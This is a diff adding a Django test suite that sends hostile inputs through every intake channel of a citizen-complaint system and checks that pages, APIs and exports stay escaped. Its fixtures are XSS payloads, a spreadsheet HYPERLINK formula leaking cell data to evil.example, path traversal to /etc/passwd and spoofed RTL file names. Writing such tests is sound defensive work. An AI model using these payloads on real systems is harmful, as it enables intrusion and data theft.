@@ -1,0 +1,317 @@
+"""The hostile corpus (issue 11, "keep it closed"): every entry point gets the same hostile texts,
+then every page, export and API answer that shows them is checked.
+
+Texts that may be taken (script tags, attribute breakers, ``javascript:`` links, SVG, RTL and
+zero-width characters, formula strings, path traversal) must come out escaped or neutralized: no
+raw markup in a page, no ``javascript:`` link, no live formula in a spreadsheet, valid JSON and XML.
+Texts that must not (NUL, 100 KB, deep JSON, wrong types, broken UTF-8) must be a 4xx or one dead
+letter. Nothing anywhere is a 5xx (the test client raises on a server error). Runs on SQLite and
+PostgreSQL like the rest of the suite (.ci/run).
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import re
+import uuid
+from io import BytesIO, StringIO
+from xml.etree.ElementTree import fromstring
+
+import pytest
+from django.contrib.auth import get_user_model
+from django.core.cache import cache
+from django.core.files.uploadedfile import SimpleUploadedFile
+from django.core.management import call_command
+from openpyxl import load_workbook
+from PIL import Image
+
+from otklik.accounts.choices import Role
+from otklik.cases.models import Case
+from otklik.deputies.models import Deputy
+from otklik.deputies.services import make_deputy
+from otklik.elections.models import Report
+from otklik.elections.tests.conftest import day  # noqa: F401 (a fixture)
+from otklik.intake import runner
+from otklik.intake.connectors.webhook import SIGNATURE_HEADER, sign
+from otklik.intake.importing import export_cur43
+from otklik.intake.models import DeadLetter, Message, Source
+from otklik.intake.tests.conftest import region  # noqa: F401 (a fixture)
+from otklik.testing.factories import PASSWORD, make_user
+
+pytestmark = pytest.mark.django_db
+User = get_user_model()
+
+TAIL = " — третий день во дворе дома 5 на улице Ленина в Энгельсе не вывозят мусор"
+TAKEN = {
+    "script": '<script>alert("corpus")</script>' + TAIL,
+    "attribute": '" onmouseover="alert(1)" data-x=\'' + TAIL,
+    "javascript-link": "javascript:alert(document.cookie)" + TAIL,
+    "svg": "<svg/onload=alert(1)><img src=x onerror=alert(2)>" + TAIL,
+    "rtl-zero-width": "\u202eтxt.exe\u200b\u200d\u2066\ufeff" + TAIL,
+    "formula": '=HYPERLINK("http://evil.example/?"&A1,"Открыть")' + TAIL,
+    "path-traversal": "../../../../etc/passwd" + TAIL,
+}
+REFUSED = {
+    "nul": "нет\x00воды" + TAIL,
+    "100-kb": "яма на дороге " * 7500,
+}
+# What must never appear raw in a page or an API answer (the escaped form is fine).
+RAW = ("<script>alert", "<svg/onload", "<img src=x", '" onmouseover="alert', "data-x='")
+JS_LINK = re.compile(r"""(href|src|action)\s*=\s*["']?\s*javascript:""", re.IGNORECASE)
+
+
+def appeal(**overrides: str) -> dict[str, str]:
+    data = {
+        "name": "Ирина Смирнова",
+        "contact": "+7 (917) 123-45-67",
+        "district": "",
+        "address": "ул. Тельмана, 12",
+        "consent": "on",
+        "website": "",
+        "form_token": uuid.uuid4().hex,
+    }
+    return {**data, **overrides}
+
+
+def _public_form(client, text: str) -> int:
+    cache.clear()  # the form's rate limit
+    client.logout()
+    return client.post("/public/appeal/", appeal(text=text, address=text[:200])).status_code
+
+
+def _call_center(client, text: str) -> int:
+    operator = User.objects.filter(username="corpus-operator").first() or make_user(
+        Role.MODERATOR, username="corpus-operator"
+    )
+    client.force_login(operator)
+    data = {
+        "phone": "+7 927 555-12-34",
+        "caller_name": text[:100],
+        "transcript": text,
+        "district": "",
+        "address": "ул. Мира, 7",
+        "form_token": uuid.uuid4().hex,
+    }
+    return client.post("/callcenter/", data).status_code
+
+
+def _open311(client, text: str) -> int:
+    cache.clear()
+    if not Source.objects.filter(code="corpus-app").exists():
+        out = StringIO()
+        call_command("open311_client", "corpus-app", "--name", "Корпус", stdout=out)
+        _open311.key = out.getvalue().strip().splitlines()[-1]  # type: ignore[attr-defined]
+    data = {
+        "api_key": _open311.key,  # type: ignore[attr-defined]
+        "service_code": "housing-heating",
+        "lat": "51.49",
+        "long": "46.12",
+        "description": text,
+        "first_name": text[:50],
+        "address_string": text[:200],
+    }
+    return client.post("/open311/v2/requests.json", data).status_code
+
+
+def _webhook(client, text: str) -> int:
+    if not Source.objects.filter(code="corpus-hook").exists():
+        Source.objects.create(
+            code="corpus-hook",
+            name="Партнёр",
+            channel="social",
+            connector="webhook",
+            settings={"secret_env": "OTKLIK_CORPUS_SECRET"},
+        )
+    item = {
+        "external_id": uuid.uuid4().hex,
+        "text": text,
+        "posted_at": "2026-03-02T09:00:00+04:00",
+        "author_name": text[:60],
+        "url": "https://example.test/post/1",
+    }
+    body = json.dumps(item, ensure_ascii=False).encode()
+    headers = {SIGNATURE_HEADER: sign("corpus-secret", body)}
+    return client.post(
+        "/intake/webhook/corpus-hook/", body, content_type="application/json", headers=headers
+    ).status_code
+
+
+def _ingest_file(client, text: str, tmp_path=None) -> int:
+    path = _ingest_file.dir / f"{uuid.uuid4().hex}.jsonl"  # type: ignore[attr-defined]
+    item = {
+        "source": "vk-engels",
+        "external_id": uuid.uuid4().hex,
+        "text": text,
+        "posted_at": "2026-03-02T09:00:00+04:00",
+        "author_name": text[:60],
+    }
+    path.write_text(json.dumps(item, ensure_ascii=False) + "\n", encoding="utf-8")
+    call_command("ingest", str(path), "--no-progress", stdout=StringIO(), stderr=StringIO())
+    return 200
+
+
+def _deputy_form(client, text: str) -> int:
+    cache.clear()
+    client.logout()
+    if not hasattr(_deputy_form, "pk") or not Deputy.objects.filter(pk=_deputy_form.pk).exists():  # type: ignore[attr-defined]
+        _deputy_form.pk = make_deputy("Иванов Пётр Сергеевич", council="Областная дума").pk  # type: ignore[attr-defined]
+    return client.post(f"/deputies/{_deputy_form.pk}/", appeal(text=text, address=text[:200])).status_code  # type: ignore[attr-defined]
+
+
+def _inbox(client, text: str) -> int:
+    inbox = runner.inbox_dir()
+    item = {
+        "source": "vk-engels",
+        "external_id": uuid.uuid4().hex,
+        "text": text,
+        "posted_at": "2026-03-02T09:00:00+04:00",
+    }
+    (inbox / f"{uuid.uuid4().hex}.jsonl").write_text(
+        json.dumps(item, ensure_ascii=False) + "\n", encoding="utf-8"
+    )
+    runner.drain_inbox()
+    assert not (inbox / "failed").exists()  # a hostile file is never moved aside whole
+    return 200
+
+
+ENTRY_POINTS = {
+    "deputy-form": _deputy_form,
+    "inbox": _inbox,
+    "public-form": _public_form,
+    "call-center": _call_center,
+    "open311": _open311,
+    "webhook": _webhook,
+    "ingest-file": _ingest_file,
+}
+
+
+@pytest.fixture
+def corpus_env(region, tmp_path, monkeypatch, settings):  # noqa: F811
+    monkeypatch.setenv("OTKLIK_CORPUS_SECRET", "corpus-secret")
+    _ingest_file.dir = tmp_path  # type: ignore[attr-defined]
+    settings.VAR_DIR = tmp_path
+    return region
+
+
+def assert_pages_are_safe(client) -> None:
+    """Every page, export and API answer that shows the stored texts: escaped, neutralized, no 5xx."""
+    chief = User.objects.filter(username="corpus-chief").first() or make_user(
+        Role.SUPERVISOR, username="corpus-chief"
+    )
+    client.force_login(chief)
+    pages = [
+        "/cases/",
+        "/api/cases/",
+        "/api/messages/",
+        "/open311/v2/requests.json",
+        "/open311/v2/requests.xml",
+    ]
+    pages += [f"/cases/{pk}/" for pk in Case.objects.values_list("pk", flat=True)]
+    pages += [f"/public/problems/{n}/" for n in Case.objects.values_list("number", flat=True)]
+    for url in pages:
+        response = client.get(url)
+        assert response.status_code < 500, url
+        if response.status_code != 200:
+            continue
+        body = response.content.decode()
+        if url.startswith("/api/") or url.endswith(".json"):
+            # JSON carries the text as data: never sniffed as a page, parsed back whole
+            assert response["Content-Type"].startswith("application/json"), url
+            assert response.get("X-Content-Type-Options") == "nosniff", url
+            json.loads(body)
+            continue
+        for raw in RAW:
+            assert raw not in body, (url, raw)
+        assert not JS_LINK.search(body), url
+        if url.endswith(".xml"):
+            fromstring(response.content)
+    path = _ingest_file.dir / "export.xlsx"  # type: ignore[attr-defined]
+    export_cur43(Case.objects.all(), path)
+    for row in load_workbook(path).active.iter_rows():
+        for cell in row:
+            assert cell.data_type != "f", cell.value
+    export_cur43(Case.objects.all(), path.with_suffix(".csv"))
+    for row in csv.reader(path.with_suffix(".csv").open(encoding="utf-8")):
+        for value in row:
+            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
+
+
+@pytest.mark.parametrize("entry", sorted(ENTRY_POINTS))
+def test_hostile_texts_through_every_entry_point(client, corpus_env, entry):
+    send = ENTRY_POINTS[entry]
+    for name, text in TAKEN.items():
+        status = send(client, text)
+        assert status < 500, (entry, name)
+    assert Message.objects.count() >= 1, entry  # the hostile texts that may be taken were taken
+    for name, text in REFUSED.items():
+        before = (Message.objects.count(), DeadLetter.objects.count())
+        status = send(client, text)
+        after = (Message.objects.count(), DeadLetter.objects.count())
+        assert status < 500, (entry, name)
+        assert after[0] == before[0], (entry, name)  # never stored as a message
+        assert status >= 400 or after[1] == before[1] + 1, (entry, name)  # a 4xx or one dead letter
+    assert_pages_are_safe(client)
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        b"[" * 100_000 + b"]" * 100_000,
+        b'{"external_id": {"id": 1}, "text": "x", "posted_at": "2026-03-02T09:00:00+04:00"}',
+        b'{"external_id": "t", "text": ["a"], "posted_at": "2026-03-02T09:00:00+04:00"}',
+        b'{"external_id": "n", "text": 5, "posted_at": "9999-12-31T23:59:59+14:00"}',
+        b'{"external_id": "u", "text": "\xff\xfe\xfd"}',
+    ],
+    ids=["deep", "object-id", "list-text", "number-text", "broken-utf8"],
+)
+def test_malformed_bodies_to_the_webhook_and_the_api_are_4xx(client, corpus_env, body):
+    _webhook(client, "warm-up" + TAIL)  # creates the source
+    answer = client.post(
+        "/intake/webhook/corpus-hook/",
+        body,
+        content_type="application/json",
+        headers={SIGNATURE_HEADER: sign("corpus-secret", body)},
+    )
+    assert 400 <= answer.status_code < 500
+    chief = make_user(Role.SUPERVISOR, username="api-chief")
+    client.force_login(chief)
+    api = client.post("/api/elections/reports/", body, content_type="application/json")
+    assert 400 <= api.status_code < 500
+
+
+def png() -> bytes:
+    buffer = io.BytesIO()
+    Image.new("RGB", (8, 8), "red").save(buffer, format="PNG")
+    return buffer.getvalue()
+
+
+@pytest.mark.parametrize(
+    "name", ["../../../etc/passwd", "..\\..\\win.ini", "evidence.html", "x.svg", "\u202egnp.exe"]
+)
+def test_observer_photos_with_hostile_names_and_texts(client, day, name):  # noqa: F811
+    client.login(username="anna", password=PASSWORD)
+    text = TAKEN["script"]
+    sent = client.post(
+        "/api/elections/reports/",
+        {
+            "kind": "violation",
+            "text": text,
+            "photo": SimpleUploadedFile(name, png() + b"<script>alert(1)</script>"),
+        },
+    )
+    assert sent.status_code == 201, sent.content
+    report = Report.objects.get()
+    stored = report.photo.name
+    assert (
+        ".." not in stored and "passwd" not in stored and stored.endswith(".png") and "\u202e" not in stored
+    )
+    client.login(username="chief", password=PASSWORD)
+    photo = client.get(f"/elections/reports/{report.pk}/photo/")
+    assert photo["Content-Type"] == "image/png" and "sandbox" in photo["Content-Security-Policy"]
+    for url in ("/elections/", f"/elections/incidents/{report.incident.pk}/", "/elections/incidents/"):
+        body = client.get(url).content.decode()
+        assert "<script>alert" not in body, url
+    sheet = load_workbook(BytesIO(client.get("/elections/incidents.xlsx").content)).active
+    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
